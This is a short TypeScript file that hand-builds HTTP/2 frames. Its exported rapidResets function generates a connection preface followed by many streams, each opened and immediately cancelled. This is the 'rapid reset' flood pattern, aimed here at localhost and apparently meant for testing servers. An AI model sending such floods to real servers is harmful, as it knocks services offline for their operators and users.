/** HTTP/2 by hand, for peers that no library would be: streams that are opened and cancelled. */

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const END_HEADERS = 4;
const CANCEL = 8;
/** Entries of HPACK's static table. */
const STATIC = { authority: 1, path: 4, contentType: 31, isPost: 0x83, isHttp: 0x86 } as const;

function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** A header whose name is in the static table, not to be stored. */
function header(name: number, value: string): Buffer {
  const bytes = Buffer.from(value);
  const index = name < 15 ? [name] : [15, name - 15];
  return Buffer.concat([Buffer.from([...index, bytes.length]), bytes]);
}

/** The beginning of a connection, and so many streams: each opened, and cancelled at once. */
export function rapidResets(count: number, path: string): Buffer {
  const headers = Buffer.concat([
    Buffer.from([STATIC.isPost, STATIC.isHttp]),
    header(STATIC.path, path),
    header(STATIC.authority, "localhost"),
    header(STATIC.contentType, "application/grpc"),
  ]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  return Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(SETTINGS, 0, 0, Buffer.alloc(0)),
    ...Array.from({ length: count }, (_, n) => [
      frame(HEADERS, END_HEADERS, 2 * n + 1, headers),
      frame(RST_STREAM, 0, 2 * n + 1, cancel),
    ]).flat(),
  ]);
}
